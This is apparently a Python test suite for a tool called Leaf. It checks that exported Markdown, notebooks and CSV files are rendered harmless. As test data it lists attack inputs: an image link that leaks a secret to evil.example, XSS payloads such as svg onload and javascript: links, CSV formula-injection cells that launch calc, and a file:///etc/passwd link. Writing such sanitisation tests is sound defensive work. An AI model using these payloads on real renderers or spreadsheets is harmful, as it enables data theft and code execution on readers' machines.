"""What leaves Leaf cannot act in the program that opens it: the Markdown is read by a parser of its
own, with HTML, as notebooks and forges read it."""

from __future__ import annotations

import csv
import re
from html import unescape
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from leaf.documents.export import leaving
from leaf.documents.markdown import allowed, parse, plain
from leaf.exports.html import words
from leaf.exports.manifest import VERSION, Manifest
from leaf.exports.notebook import _text
from leaf.exports.readme import readme
from leaf.shapes.harmless import JOINER, harmless_markdown, inert, leads_out
from leaf.tables.child import export_csv

PICTURE = "![x](https://evil.example/?d=secret)"
ATTACKS = [
    PICTURE,
    f"text {PICTURE} text",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: https://evil.example/a.png",
    '<img src="https://evil.example/a.png">',
    "<!-- x --><svg onload=alert(1)>",
    "<script>\n\n```\n</script><img src=x>\n```",
    "[a](javascript:alert(1)) <javascript:alert(1)> [b](data:text/html,x)",
    f"```\ncode\n```\n{PICTURE}",
    f"   ```\nx\n```\n{PICTURE}\n```\n",
    f"> ```\n{PICTURE}\n```\n{PICTURE}\n",
    f"- ```\n{PICTURE}\n\n```\n{PICTURE}\n",
    f"````\n```\n{PICTURE}\n````\n{PICTURE}",
    f"~~~ a`b\nx\n~~~\n{PICTURE}\n~~~\n",
    f"\t```\n{PICTURE}\n\t```\n{PICTURE}",
    f"| a |\n|---|\n| {PICTURE} |",
    f"[^1]: {PICTURE}",
    f"# {PICTURE}",
    *(f"a{end}```\n{PICTURE}\n```" for end in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"),
    "<br>\n```\n<img src=x>\n```",
    "- <br/>\n  ~~~\n  <img src=x>\n  ~~~",
    "> <BR />  \n> ```\n> <img src=x>\n> ```",
    "<br><br>\t\n```\n<img src=x>\n```",
    "| a<br><img src=x> |\n|---|",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_in_exported_markdown(attack: str) -> None:
    assert "<img" in MarkdownIt("commonmark", {"html": True}).render(PICTURE)
    for document in (attack, f"Before\n{attack}\n\nafter", attack.replace("\n", "\r\n")):
        html = (
            MarkdownIt("commonmark", {"html": True})
            .enable("table")
            .render(harmless_markdown(document))
        )
        for sign in ("<img", "<svg", "<script", "<!--", 'href="javascript:', 'href="data:'):
            assert sign not in html, (sign, document)


def test_code_stays_as_it_was_and_links_lead_on() -> None:
    sql = "SELECT a<b, c::int, '![x](y)' FROM t WHERE x <y"
    text = f"See <https://a.example> and [b](https://b.example).\n\n```sql\n{sql}\n```\nEnd.\n"
    assert harmless_markdown(text) == text
    inside = harmless_markdown("````\na\n```\nb\n````")
    assert inside == "````\na\n```\nb\n````\n"


BROKEN = (
    "| a |\n|---|\n| one<br>two<BR/>three |\n\nfour<br>five<br>\nsix `<br>` &lt;br> \\<br>\n"
    "\n```\n<br>\n```\n"
)
"""Lines broken as models break them, and where it is written that they do."""


def test_a_break_within_a_line_is_one() -> None:
    """In the Markdown for others, on pages and in documents."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    for page in (parser.render(harmless_markdown(BROKEN)), words(BROKEN)):
        lines = re.sub("<br ?/?>\n?", "\n", page, flags=re.IGNORECASE).replace(JOINER, "")
        plain_lines = unescape(re.sub("<[^>]*>", "", lines)).split()
        assert " ".join(plain_lines) == "a one two three four five six <br> <br> <br> <br>"
        assert len(re.findall("<br", page, re.IGNORECASE)) == 4
    table, paragraph, code = parse(BROKEN)
    assert plain(table.rows[1][0]) == "one\ntwo\nthree"
    assert plain(paragraph.runs) == "four\nfive\n six <br> <br> <br>"
    assert code.text == "<br>"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("+49 30 1234", "+49 30 1234"),
        ("+49 (0)30", "'+49 (0)30"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "-5"),
        ("-1.234,56 %", "-1.234,56 %"),
        ("-5+3", "'-5+3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_is_no_formula_and_numbers_stay_numbers(
    tmp_path: Path, cell: str, written: str
) -> None:
    import duckdb

    assert inert(cell) == written
    con = duckdb.connect()
    con.execute('CREATE TABLE t ("=name" VARCHAR, n DOUBLE, l VARCHAR[])')
    con.execute("INSERT INTO t VALUES (?, -1.5, [?])", [cell, cell])
    source = str(tmp_path / "t.parquet")
    con.execute(f"COPY t TO '{source}' (FORMAT parquet)")
    for raw, first in ((False, written), (True, cell)):
        out = tmp_path / str(raw)
        out.mkdir()
        export_csv(source, str(out), 512, raw=raw)
        with (out / "export.csv").open(newline="", encoding="utf-8") as file:
            head, row = list(csv.reader(file))
        assert head[0] == ("=name" if raw else "'=name")
        assert row[:2] == [first, "-1.5"]


def test_names_of_files_and_titles_do_not_act_in_a_bundle_or_a_notebook() -> None:
    manifest = Manifest(format="leaf-chat", version=VERSION, title=PICTURE)
    for text in (readme(manifest), _text(PICTURE)["source"]):
        assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(text)
        assert JOINER in text


@pytest.mark.parametrize(
    ("address", "leads"),
    [
        ("https://a.example/b?c=d", True),
        ("HTTP://a.example", True),
        ("mailto:a@b.example", True),
        ("report.exe", False),
        ("//evil.example/share", False),
        ("#part", False),
        ("https:a.example", False),
        ("https&colon;//a.example", False),
        ("https://a.example\njavascript:x", False),
        ("javascript:alert(1)//https://a.example", False),
        ("file:///etc/passwd", False),
        (" https://a.example", False),
    ],
)
def test_a_link_in_a_file_leads_to_the_web_or_to_mail_and_never_to_the_disk(
    address: str, leads: bool
) -> None:
    assert leads_out(address) is leads
    assert (allowed(address) == address) is leads
    if "&" not in address and not address.startswith(" "):  # which the parser takes away before
        assert ("<a " in words(f"[a]({address})")) is leads


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_in_a_document_that_leaves(attack: str) -> None:
    for document in (attack, f"Before\n{attack}\n\nafter"):
        for ending in ("md", "markdown"):
            left = leaving(document, ending)
            page = MarkdownIt("commonmark", {"html": True}).enable("table").render(left)
            assert not any(sign in page for sign in ("<img", "<svg", "<script", "<!--"))
        assert leaving(document, "html") == document
